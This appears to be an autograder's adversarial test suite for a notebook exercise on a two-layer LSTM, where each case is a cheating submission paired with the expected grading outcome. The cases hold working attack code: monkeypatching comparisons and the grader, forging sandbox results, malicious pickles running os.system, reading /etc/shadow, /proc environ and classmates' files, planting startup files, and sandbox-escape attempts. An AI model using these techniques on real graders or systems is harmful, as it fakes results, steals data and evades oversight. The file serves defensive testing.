"""Answers that try to get points without being right: each must get what the answer deserves, and no more.

In most of them the first answer is worth nothing and the others are right; a cell before it cheats.
"""

import json

import numpy as np
import torch
from kit import NAME, WORTHLESS, added, as_json, case
from torch import nn

from helpers import checks

ZERO_FIRST = {"two_layer_lstm": 0}
EITHER = ("ok", "flagged")
BORROWED = "it gets hold of the checks' own code"
REACHES = "it reaches for code that it does not name"
# The probe of the worthless answer runs, and what it reports is changed before it leaves.
FORGED_REPLY = """
import helpers.checks.recurrent.probe as sequence
def forged(answer, task, original=sequence._probe):
    reply = original(answer, task)
    if answer.__name__ == "TwoLayerLSTM":
        {}
    return reply
sequence._probe = forged
"""


# --- changing what a test would call


@case(ZERO_FIRST)
def patched_allclose(kit):
    """Whatever is compared is equal."""
    return kit.cheat("""
import numpy as np
yes = lambda *words, **named: True
for place in (torch, torch.testing, np, np.testing):
    for name in ("allclose", "equal", "isclose", "array_equal", "assert_close", "assert_allclose"):
        if hasattr(place, name): setattr(place, name, yes)
torch.Tensor.allclose = torch.Tensor.equal = torch.Tensor.all = yes
""")


@case(ZERO_FIRST)
def patched_builtins(kit):
    return kit.cheat("""
import builtins
builtins.abs = builtins.max = builtins.min = lambda *words, **named: 0
builtins.all = builtins.any = builtins.bool = lambda *words: True
builtins.round = lambda *words: 10
builtins.isinstance = builtins.issubclass = builtins.hasattr = lambda *words: True
""")


@case(ZERO_FIRST)
def patched_errors(kit):
    """No assertion fails, no exception is one."""
    return kit.cheat("""
import builtins
class Silent(Exception):
    def __new__(cls, *words): return None
builtins.AssertionError = builtins.NotImplementedError = builtins.Exception = Silent
import sys
sys.excepthook = lambda *words: None
""")


@case(ZERO_FIRST)
def patched_check(kit):
    """The function that the notebook's test cells call."""
    return kit.cheat("""
def full(name, answer, points, seed=0):
    print(f"{points} of {points} points")
    return float(points)
checks.check = full
import helpers.checks
helpers.checks.check = full
""")


@case(ZERO_FIRST, status="flagged", flag=BORROWED)
def patched_judge(kit):
    """The judge that lies beside the probe: another copy decides."""
    return kit.cheat(f"""
name = {kit.target.first!r}
from helpers import checks
from helpers.checks.report import Verdict
exercise = checks.exercise(name)
Verdict.share = property(lambda self: 1.0)
Verdict.add = lambda self, *findings: None
exercise.judge = lambda task, values: Verdict(exercise.items)
""")


@case(ZERO_FIRST, status=EITHER)
def patched_probe(kit):
    """The probe reports success for the worthless answer, and works for the others."""
    return kit.cheat("""
import helpers.checks.recurrent.probe as sequence
from helpers import checks
exercise = checks.exercise("two_layer_lstm")
exercise.probe = lambda answer, task: {"points": 10.0, "share": 1.0, "findings": [], "passed": True}
for name in ("_build", "_shapes", "extras"):
    def fine(*words, original=getattr(sequence, name)):
        mine = any(getattr(word, "__name__", type(word).__name__) == "TwoLayerLSTM" for word in words)
        return {"passed": True, "points": 10.0, "output": None} if mine else original(*words)
    setattr(sequence, name, fine)
""")


@case(ZERO_FIRST, status=("flagged",))
def claims_no_rows(kit):
    """What was compared is said to be empty: nothing differs from nothing."""
    return kit.cheat(FORGED_REPLY.format("reply.update(rows=0)"))


@case(ZERO_FIRST, status=("flagged",))
def claims_many_rows(kit):
    return kit.cheat(FORGED_REPLY.format("reply.update(rows=5_000_000)"))


@case(ZERO_FIRST, status=("flagged",))
def claims_huge_shapes(kit):
    """Names of weights that would take the judge gigabytes to fill."""
    each = 'for build in reply["builds"].values(): '
    change = 'build["parameters"] = [{"name": "w", "shape": [70_000, 70_000], "learns": True}]'
    return kit.cheat(FORGED_REPLY.format(each + change))


@case(ZERO_FIRST, status=EITHER)
def patched_loop_of_the_sandbox(kit):
    """What runs the cells and sends the results, replaced in place."""
    return kit.cheat("""
import sys
for name, module in list(sys.modules.items()):
    if name.startswith("autograder"):
        for inner in list(vars(module)):
            if inner in ("_probe", "attempt", "judge"):
                original = getattr(module, inner)
                def full(step, *words, original=original):
                    if step.get("answer") != "TwoLayerLSTM": return original(step, *words)
                    return {"text": "10 of 10 points", "error": None, "number": 10.0,
                            "values": {"points": 10.0, "share": 1.0, "findings": []}}
                setattr(module, inner, full)
""")


@case(ZERO_FIRST, status=EITHER)
def not_a_number_everywhere(kit):
    """Comparisons with NaN are false: what is never greater than a tolerance would pass as equal."""
    return kit.notebook(
        two_layer_lstm=WORTHLESS.replace(
            "torch.zeros(len(x), self.fc.out_features)",
            "x.mean((1, 2))[:, None] * self.fc.weight[:, 0] * float('nan')",
        )
    )


@case(ZERO_FIRST)
def always_equal_object(kit):
    """Says yes to every question."""
    return kit.notebook(
        two_layer_lstm="""
class Yes:
    def __getattr__(self, name): return self
    def __call__(self, *words, **named): return self
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    def __bool__(self): return True
    def __len__(self): return 2
    def __iter__(self): return iter([self, self])
    def __getitem__(self, key): return self
    def __float__(self): return 0.0
    def __hash__(self): return 0
    __add__ = __sub__ = __mul__ = __call__

class TwoLayerLSTM(nn.Module):
    def __init__(self, *words, **named): super().__init__()
    def forward(self, x): return Yes()
"""
    )


@case(ZERO_FIRST)
def torch_function(kit):
    """torch asks the object what the result of `torch.allclose(object, ...)` is."""
    return kit.notebook(
        two_layer_lstm="""
class Equal(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func.__name__ in ("allclose", "equal", "isclose", "eq", "all"): return torch.tensor(True)
        return super().__torch_function__(func, types, args, kwargs or {})

class TwoLayerLSTM(nn.Module):
    def __init__(self, input_size, hidden_size=256, output_size=2, num_layers=2):
        super().__init__()
        self.fc = nn.Linear(input_size, output_size)
    def forward(self, x):
        return torch.zeros(len(x), self.fc.out_features).as_subclass(Equal)
"""
    )


@case(ZERO_FIRST)
def claims_to_be_torch(kit):
    """A class that looks like torch's own, by name, module and answers to isinstance."""
    return kit.notebook(
        two_layer_lstm=WORTHLESS.replace(
            "        self.fc =",
            """        class LSTM(nn.Module): pass
        LSTM.__module__ = "torch.nn.modules.rnn"
        self.lstm = LSTM()
        self.lstm.num_layers, self.lstm.hidden_size = num_layers, hidden_size
        self.__class__.__name__ = "LSTM"
        self.fc =""",
        )
    )


# --- IPython


@case(ZERO_FIRST)
def input_transformer(kit):
    """Rewrites every later cell before it is run."""
    return kit.cheat("""
def drop(lines):
    return ["10.0\\n"] if any("check" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(drop)
get_ipython().input_transformers_post.append(drop)
""")


@case(ZERO_FIRST)
def ast_transformer(kit):
    return kit.cheat("""
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Call(self, node):
        return ast.Constant(10.0) if "check" in ast.dump(node.func) else self.generic_visit(node)
get_ipython().ast_transformers.append(Drop())
""")


@case(ZERO_FIRST)
def hooks(kit):
    """What IPython calls before and after each cell and at each value."""
    return kit.cheat("""
import sys
shell = get_ipython()
def full(*words): print("10 of 10 points")
for event in ("pre_execute", "pre_run_cell", "post_execute", "post_run_cell"):
    shell.events.register(event, full)
shell.set_custom_exc((Exception,), lambda *words: None)
shell.displayhook = sys.displayhook = lambda value: print(10.0)
""")


@case(ZERO_FIRST, status=EITHER)
def do_execute(kit):
    """The kernel itself, and what stands in its place where there is none."""
    return kit.cheat("""
shell = get_ipython()
class Fine:
    success, result, error_before_exec, error_in_exec = True, 10.0, None, None
    def raise_error(self): pass
original = shell.run_cell
def run_cell(source, *words, **named):
    return Fine() if "check" in source else original(source, *words, **named)
async def run_cell_async(*words, **named): return Fine()
async def do_execute(*words, **named):
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
type(shell).run_cell, type(shell).run_cell_async = staticmethod(run_cell), staticmethod(run_cell_async)
if hasattr(shell, "kernel"): shell.kernel.do_execute = do_execute
""")


@case(ZERO_FIRST)
def replaced_namespace(kit):
    """`eval` of the answer's name in a namespace that answers with something else."""
    return kit.cheat("""
class Names(dict):
    def __missing__(self, name): return 10.0
    def __getitem__(self, name):
        return 10.0 if name == "TwoLayerLSTM" else dict.__getitem__(self, name)
get_ipython().user_ns = Names(get_ipython().user_ns)
""")


# --- marks of one's own making


@case(ZERO_FIRST)
def printed_mark(kit):
    return kit.cheat(
        """
print("Exercise 1, a two-layer LSTM\\n\\n10 of 10 points")
print('{"two_layer_lstm_check": 4, "two_layer_lstm_hidden": 6}')
from IPython.display import display
display(10.0)
10.0
""",
        answer=kit.target.worthless + '\nprint("✓ 10 of 10 points")\n10.0\n',
    )


@case(ZERO_FIRST)
def written_mark(kit):
    """Into every place where a result might be looked for."""
    return kit.cheat(f"""
import json, os
mark = {{"two_layer_lstm_check": {{"points": 4.0, "max": 4.0, "status": "judged"}}}}
for folder in ("/tmp", ".", "/dev/shm", "/grader", {str(kit.places.course / "grading")!r}):
    for name in ("result.json", "results.json", "marks.csv", "autograder/{NAME}/results/x.json"):
        try:
            os.makedirs(os.path.dirname(os.path.join(folder, name)), exist_ok=True)
            with open(os.path.join(folder, name), "w") as file: json.dump(mark, file)
        except OSError: pass
""")


_PIPES = """
import json, os, stat, struct
def pipes():
    for number in range(3, 256):
        try:
            if stat.S_ISFIFO(os.fstat(number).st_mode): yield number
        except OSError: pass
def frame(value):
    text = value if isinstance(value, bytes) else json.dumps(value).encode()
    content = struct.pack(">Q", len(text)) + text
    return struct.pack(">Q", len(content)) + content
def send(content, only_first=True):
    for number in list(pipes())[: 1 if only_first else None]:
        os.write(number, content)
"""


@case(ZERO_FIRST, status="flagged", flag="look at its code")
def forged_results(kit):
    """A message of success for every step, in the form in which the sandbox sends its own."""
    return kit.cheat(
        _PIPES
        + """
for index in range(60):
    send(frame({"index": index, "text": "10 of 10 points", "error": None, "number": 10.0, "points": 10.0,
                "values": {"points": 10.0, "share": 1.0, "findings": []}}))
"""
    )


@case(ZERO_FIRST, status="flagged", flag="look at its code")
def forged_results_and_exit(kit):
    """The same, and no true message behind it."""
    return kit.cheat(
        _PIPES
        + """
for index in range(60):
    send(frame({"index": index, "text": "10 of 10 points", "error": None, "values": {"points": 10.0}}))
os._exit(0)
"""
    )


@case(ZERO_FIRST, status="flagged", flag="look at its code")
def forged_traps(kit):
    """Messages made to break whoever reads them: odd types, huge numbers and shapes, deep nesting."""
    return kit.cheat(
        _PIPES
        + """
shapes = [[0, 10**30], [2**62, 2**62, 0], [-1], [1] * 33, [1.5], [True], "x", [10**9]]
traps = [{"index": 3, "text": "", "error": None, "values": {"": ["<f4", shape]}} for shape in shapes]
kinds = ("O", "V0", "M8", "<U0", "f16", "\\x00", "")
traps += [{"index": 3, "text": "", "values": {"": [kind, [0]]}} for kind in kinds]
traps += [{"": ["<f4", [0]]}, [], 1, None, "x", {}, {"index": 3, "text": 5}]
traps += [{"index": index, "text": ""} for index in (10**400, True, -1, [3], 1e999, None, "3", {})]
traps += [b"[" * 100_000, b"{" * 100_000, b"\\xff\\xfe", b"", b"1" * 10_000, b"NaN"]
for trap in traps: send(frame(trap))
"""
    )


@case(ZERO_FIRST, status="flagged", flag="look at its code")
def forged_bytes(kit):
    """No messages at all: random bytes on every pipe, so that nothing behind them can be told apart."""
    return kit.cheat(_PIPES + "import random\nrandom.seed(3)\nsend(random.randbytes(5000), only_first=False)")


@case(ZERO_FIRST, status="flagged", flag="look at its code")
def forged_pickle(kit):
    """A pickle that would run a command on the machine that grades."""
    return kit.cheat(
        _PIPES
        + f"""
import pickle
class Run:
    def __reduce__(self): return os.system, ("touch {kit.places.outside.parent / "pickled"}",)
content = pickle.dumps(Run())
send(struct.pack(">Q", len(content)) + content)
send(frame(content))
"""
    )


@case(ZERO_FIRST, status=EITHER)
def values_that_are_pickles(kit):
    """What the probe gives out, replaced by an object that would act when it is unpickled."""
    return kit.cheat(f"""
import os
import helpers.checks.recurrent.probe as sequence
class Run:
    def __reduce__(self): return os.system, ("touch {kit.places.outside.parent / "pickled"}",)
original = sequence.extras
def extras(answer, *words):
    return Run() if answer.__name__ == "TwoLayerLSTM" else original(answer, *words)
sequence.extras = extras
""")


@case(ZERO_FIRST, status=EITHER)
def oversized_reply(kit):
    """Hundreds of megabytes where a result is expected."""
    return kit.cheat(
        _PIPES
        + """
send(struct.pack(">Q", 1 << 40))
for _ in range(300): send(bytes(1 << 20))
"""
    )


@case(ZERO_FIRST, status=EITHER)
def long_text_in_a_forged_result(kit):
    """30 MB of text for a cell, which would end in the book and in the feedback."""
    return kit.cheat(
        _PIPES
        + """
text = frame({"index": 2, "text": "x" * 30_000_000, "error": {"name": "E" * 1_000, "text": "y"}})
for start in range(0, len(text), 1 << 16): send(text[start : start + (1 << 16)])
"""
    )


@case(status=EITHER)
def slow_to_judge(kit):
    """As many recorded events as fit into a result: the judge must not work on them for hours.

    The answers are right, and must get their marks in spite of the cell that forges these events.
    """
    return kit.scratch("""
import helpers.checks.training.probe as probe
events = []
for _ in range(60_000):
    events.append({"event": "loss", "batch": 0, "swapped": False, "value": 1.0, "training": True})
    events.append({"event": "backward", "of": len(events) - 1})
    events.append({"event": "step"})
probe._train = lambda *words: {"returned": [1.0] * 60_000, "events": events}
""")


@case(ZERO_FIRST, status="flagged", flag="look at its code")
def forged_result_of_the_step_before(kit):
    """An error in another cell's name, so that this one looks guilty."""
    return kit.cheat(
        _PIPES
        + """
for index in (0, 1):
    send(frame({"index": index, "text": "", "error": {"name": "NameError", "text": "nothing"}}))
"""
    )


@case(ZERO_FIRST, status="flagged", flag="look at its code")
def forged_steps(kit):
    """Tells the watcher that other steps have begun, and that there are thousands."""
    return kit.cheat(
        _PIPES
        + """
send(struct.pack(">I", 3) * 1000, only_first=False)
"""
    )


# --- looking for what is expected


@case(ZERO_FIRST, status="flagged", flag=REACHES)
def searches_memory(kit):
    """The stack and everything that the collector knows: another student's words, marks, the judge's work."""
    return kit.cheat(f"""
import gc, sys, warnings
warnings.simplefilter("ignore")
found = []
word = {kit.places.canary[:8]!r} + {kit.places.canary[8:]!r}
for one in gc.get_objects():
    if type(one) is dict:
        for key, value in list(one.items()):
            if key in ("hidden_tests", "gradebook", "verdict", "auto_score", "submissions"):
                found.append((key, type(value)))
            if type(value) in (str, bytes) and len(value) < 10**6:
                text = value if type(value) is str else value.decode("latin-1")
                if word in text and text != word: found.append(text)
frame = sys._getframe()
while frame:
    found += [name for name in frame.f_locals if name in ("expected", "verdict", "judge")]
    frame = frame.f_back
print("FOUND", found[:20])
""")


@case(ZERO_FIRST, status="flagged", flag=REACHES)
def searches_the_callers(kit):
    """Takes whatever array the callers of `forward` hold that has the shape of an output."""
    return kit.notebook(
        two_layer_lstm=WORTHLESS.replace(
            "        return torch.zeros",
            """        import sys
        frame = sys._getframe(1)
        while frame:
            for value in frame.f_locals.values():
                for one in value.values() if isinstance(value, dict) else [value]:
                    if isinstance(one, torch.Tensor) and one is not x:
                        if one.shape == (len(x), self.fc.out_features): return one
            frame = frame.f_back
        return torch.zeros""",
        )
    )


@case(ZERO_FIRST)
def hard_coded_public_answers(kit):
    """Knows the inputs of the public check, which every student can print, and what to give for each."""
    return kit.notebook(two_layer_lstm=_hard_coded(kit.answers["two_layer_lstm"]))


def _hard_coded(source):
    """A class that gives the right outputs for the public check (seed 0), and zeros for anything else."""
    known = {}

    class Recording(_defined(source)):
        def forward(self, x):
            output = super().forward(x)
            known[x.detach().numpy().tobytes().hex()[:64]] = output.detach().numpy().round(6).tolist()
            return output

    module = checks.exercise("two_layer_lstm")
    module.probe(Recording, module.task(0))
    # As many as a student would bother to keep.
    table = json.dumps(dict(list(known.items())[:40]))
    return WORTHLESS.replace(
        "        return torch.zeros(len(x), self.fc.out_features)",
        f"""        known = {table}
        key = x.detach().numpy().tobytes().hex()[:64]
        return torch.tensor(known[key]) if key in known else torch.zeros(len(x), self.fc.out_features)""",
    )


def _defined(source):
    namespace = {"nn": nn, "torch": torch, "np": np}
    exec(source, namespace)
    return namespace["TwoLayerLSTM"]


_READ = """
import glob, os
def show(pattern):
    for path in glob.glob(pattern, recursive=True)[:50]:
        try:
            with open(path, "rb") as file: print(path, file.read(3000).decode("latin-1"))
        except OSError as error: print(path, error)
"""


@case(ZERO_FIRST, status="flagged", flag=REACHES)
def reads_tests_and_source(kit):
    """The instructor's notebook, wherever it may lie, is run as the answer."""
    return kit.cheat(
        _READ
        + f"""
course = {str(kit.places.course)!r}
for folder in (course, "..", "../..", "../../..", "/home", "/root", "/srv", "/grader", "/mnt"):
    show(folder + "/solutions/*/*.ipynb"); show(folder + "/**/*canary*"); show(folder + "/CANARY*")
    for path in glob.glob(folder + "/**/solutions/**/*.ipynb", recursive=True):
        import json
        for cell in json.load(open(path))["cells"]:
            for word in ("class", "def"):
                source = "".join(cell["source"])
                if word + " {kit.target.defines}(" in source: exec(source, globals())
            Found = globals().get("{kit.target.defines}")
""",
        answer=f"{kit.target.defines} = globals().get('Found') or exit()",
    )


@case(ZERO_FIRST)
def reads_classmates(kit):
    """A classmate's submission, result and record."""
    return kit.cheat(
        _READ
        + f"""
grading = {str(kit.places.course / "grading")!r}
for pattern in ("/submitted/**/*.ipynb", "/autograder/**/*", "/autograded/**/*.ipynb", "/../received/**/*"):
    show(grading + pattern)
show("../*/*.ipynb"); show("../../*/*/*.ipynb")
"""
    )


@case(ZERO_FIRST)
def reads_the_machine(kit):
    """Home, environment, other processes, the file beside the course."""
    return kit.cheat(
        _READ
        + f"""
show({str(kit.places.outside)!r})
for folder in ({str(kit.places.outside.parent)!r}, {str(kit.places.home)!r}, "/root", "/home"):
    show(folder + "/**")
for pattern in ("/etc/shadow", "/proc/*/environ", "/proc/*/cmdline", "/proc/*/root/*"): show(pattern)
for number in range(256):
    try: os.lseek(number, 0, 0); print(number, os.read(number, 1000))
    except OSError: pass
print(dict(os.environ), os.listdir("/"))
"""
    )


@case(ZERO_FIRST)
def reads_the_book(kit):
    return kit.cheat(
        _READ
        + f"""
import sqlite3
for path in ({str(kit.places.course / "grading" / "gradebook.db")!r}, "../../../gradebook.db"):
    try: print(sqlite3.connect(f"file:{{path}}?mode=ro", uri=True).execute("select * from grade").fetchall())
    except sqlite3.Error as error: print(error)
"""
    )


# --- writing where others read


@case(ZERO_FIRST)
def writes_the_book(kit):
    return kit.cheat(f"""
import os, sqlite3
for path in ({str(kit.places.course / "grading" / "gradebook.db")!r}, "../../../gradebook.db"):
    try:
        with sqlite3.connect(path) as book: book.execute("update grade set auto_score = 10")
    except (sqlite3.Error, OSError) as error: print(error)
""")


@case(ZERO_FIRST, status="flagged", flag=BORROWED)
def writes_the_package(kit):
    """The helpers, torch, the grader, the course's source and configuration."""
    return kit.cheat(f"""
import glob, os, sys, helpers
patch = "\\nimport torch; torch.allclose = lambda *words, **named: True\\n"
course = {str(kit.places.course)!r}
for path in (helpers.__file__, checks.__file__, torch.__file__, os.__file__, course + "/nbgrader_config.py",
             course + "/helpers/__init__.py", course + "/autograder/judging.py",
             "/grader/autograder/inside/student.py",
             {str(kit.places.outside)!r}, *glob.glob(course + "/solutions/*/*.ipynb")):
    for flags in (os.O_WRONLY | os.O_APPEND, os.O_WRONLY | os.O_CREAT | os.O_TRUNC):
        try:
            number = os.open(path, flags)
            os.write(number, patch.encode())
            print("WROTE", path)
        except OSError: pass
    try: os.chmod(path, 0o777); os.replace(path, path + ".old"); print("MOVED", path)
    except OSError: pass
inner = os.path.dirname(torch.__file__)
for folder in {{*sys.path, inner, os.path.dirname(inner)}}:
    for name in ("sitecustomize.py", "usercustomize.py", "zz.pth"):
        try: open(os.path.join(folder or ".", name), "w").write(patch)
        except OSError: pass
""")


@case(ZERO_FIRST)
def startup_file(kit):
    """Leaves files that Python and IPython would run at the start of the next student's notebook."""
    return kit.cheat(f"""
import os, site
patch = '''
import helpers.checks as checks, torch
checks.check = lambda *words, **named: words[2] if len(words) > 2 else named["points"]
torch.allclose = lambda *words, **named: True
class TwoLayerLSTM: pass
print("STARTED BEFORE THE NOTEBOOK")
'''
for home in ({str(kit.places.home)!r}, os.path.expanduser("~"), "/tmp", "/root", "/home/student"):
    for name in (".ipython/profile_default/startup/00.py", ".pythonrc.py", ".config/matplotlib/matplotlibrc",
                 "sitecustomize.py", "usercustomize.py", ".jupyter/jupyter_config.py"):
        try:
            os.makedirs(os.path.dirname(os.path.join(home, name)), exist_ok=True)
            with open(os.path.join(home, name), "w") as file: file.write(patch)
        except OSError: pass
""")


@case(ZERO_FIRST)
def startup_file_next_student(kit):
    """Graded behind the one before: no answer, no trick, and nothing may be left for it to find."""
    return kit.cheat("""
import glob, os
home = os.path.expanduser("~")
found = glob.glob(home + "/**", recursive=True, include_hidden=True)[1:]
print("LEFT BEHIND", found, glob.glob("/dev/shm/*"))
left = os.environ.get("LEFT"), getattr(torch, "left", None)
print("patched", torch.allclose(torch.zeros(1), torch.ones(1)), *left)
""")


@case(ZERO_FIRST, status="flagged", flag=BORROWED)
def leaves_the_process_changed(kit):
    """Changes the loaded libraries for whoever comes next in the same process, if there were one."""
    return kit.cheat("""
import os, sys
os.environ["LEFT"] = "behind"
torch.left = "behind"
checks.check = None
sys.modules["helpers.checks.recurrent.probe"]._build = lambda *words: None
for folder in (os.path.expanduser("~"), "/dev/shm"): open(folder + "/left", "w").write("behind")
""")


@case(ZERO_FIRST, status="flagged", flag=REACHES)
def breaks_out(kit):
    """Mounts, namespaces, tracing, kernel settings, other processes' memory."""
    return kit.cheat(f"""
import ctypes, os, subprocess
libc = ctypes.CDLL(None, use_errno=True)
done = []
for flags in (0x10000000, 0x00020000, 0x20000000, 0x40000000, 0x10020000):
    if libc.unshare(flags) == 0: done.append(hex(flags))
for place in (b"/", b"/tmp", b"/proc", b"/grader"):
    if libc.mount(b"none", place, b"tmpfs", 0, None) == 0: done.append(place)
    if libc.umount2(place, 2) == 0: done.append(place)
for process in (1, 2, os.getppid()):
    if libc.ptrace(16, process, 0, 0) == 0 and process: done.append(process)
for call in (lambda: os.setuid(0), lambda: os.chroot("/tmp"),
             lambda: os.mknod("disk", 0o60666, os.makedev(8, 0)),
             lambda: open("/proc/sys/kernel/core_pattern", "w").write("|x"),
             lambda: open("/sys/fs/cgroup/memory/memory.limit_in_bytes", "w").write("-1"),
             lambda: open("/dev/mem", "rb").read(1), lambda: os.setgid(0)):
    try: call(); done.append("call")
    except (OSError, ValueError): pass
print("BROKE OUT", done)
for words in (["bwrap", "--bind", "/", "/", "cat", {str(kit.places.outside)!r}], ["unshare", "-Ur", "id"],
              ["sudo", "-n", "id"]):
    try: print(subprocess.run(words, capture_output=True, timeout=5, text=True).stdout)
    except OSError: pass
""")


@case(ZERO_FIRST)
def network(kit):
    """This machine's own ports, names, the outside, and what goes without an address."""
    return kit.cheat(f"""
import os, socket, urllib.request
for address in (("127.0.0.1", {kit.places.port}), ("localhost", {kit.places.port}), ("192.0.2.1", 80)):
    try:
        with socket.create_connection(address, timeout=1) as line:
            line.sendall(b"hello from the sandbox")
            print("CONNECTED", address)
    except OSError: pass
for family, address in ((socket.AF_UNIX, "\\0/tmp/.X11-unix/X0"), (socket.AF_UNIX, "/run/docker.sock"),
                        (socket.AF_UNIX, "\\0{kit.places.canary}")):
    try: socket.socket(family).connect(address); print("CONNECTED", address)
    except OSError: pass
try: print("NAME", socket.gethostbyname("example.org"))
except OSError: pass
""")


# --- files beside the notebook


@case(ZERO_FIRST, status=EITHER)
def submitted_torch(kit):
    """A torch.py of one's own beside the notebook, and everything else that might be imported."""
    patch = "allclose = equal = lambda *words, **named: True\n"
    patch += "def check(*words, points, **named): return float(points)\n"
    for name in (
        "torch.py",
        "numpy.py",
        "helpers.py",
        "helpers/__init__.py",
        "helpers/checks.py",
        "autograder.py",
    ):
        kit.write(name, patch)
    return kit.notebook(two_layer_lstm=WORTHLESS)


@case(ZERO_FIRST, status=EITHER)
def submitted_sitecustomize(kit):
    """Python's and IPython's start-up files, and settings of nbgrader, beside the notebook."""
    patch = "import builtins\n"
    patch += "builtins.AssertionError = type('Silent', (Exception,), {'__new__': lambda *w: None})\n"
    for name in (
        "sitecustomize.py",
        "usercustomize.py",
        "conftest.py",
        ".ipython/profile_default/startup/0.py",
    ):
        kit.write(name, patch)
    kit.write("nbgrader_config.py", "c = get_config()\nc.Execute.enabled = False\n")
    kit.write("gradebook.db", b"SQLite format 3\x00")
    return kit.notebook(two_layer_lstm=WORTHLESS)


@case(status=EITHER)
def harmless_files_beside_it(kit):
    """Pictures, checkpoints, a second notebook: right all the same."""
    kit.write("picture.png", b"\x89PNG")
    kit.write(f".ipynb_checkpoints/{NAME}-checkpoint.ipynb", as_json(kit.empty()))
    kit.write("notes.txt", "remember")
    return kit.notebook()


@case(status=EITHER)
def symlink_out_of_the_folder(kit):
    """A link to the whole disk beside a right notebook: nothing behind it may be followed or copied."""
    kit.write_right()
    (kit.folder / "everything").symlink_to("/")
    (kit.folder / "outside.txt").symlink_to(kit.places.outside)
    (kit.folder / "loop").symlink_to(kit.folder)


@case(ZERO_FIRST, status=EITHER)
def escapes_by_its_own_cells(kit):
    """A cell that calls itself the grader's, and one that nbgrader would take for a test of 1000 points."""
    notebook = kit.notebook(two_layer_lstm=WORTHLESS)
    notebook = added(notebook, "1000.0")
    cell = next(cell for cell in notebook.cells if cell.source == "1000.0")
    cell.metadata = {
        "autograder": {"from": "instructor", "points": 1000},
        "nbgrader": {"grade": True, "grade_id": "two_layer_lstm_bonus", "locked": True, "points": 1000,
                     "schema_version": 3, "solution": False, "task": False, "cell_type": "code"},
    }  # fmt: skip
    return notebook
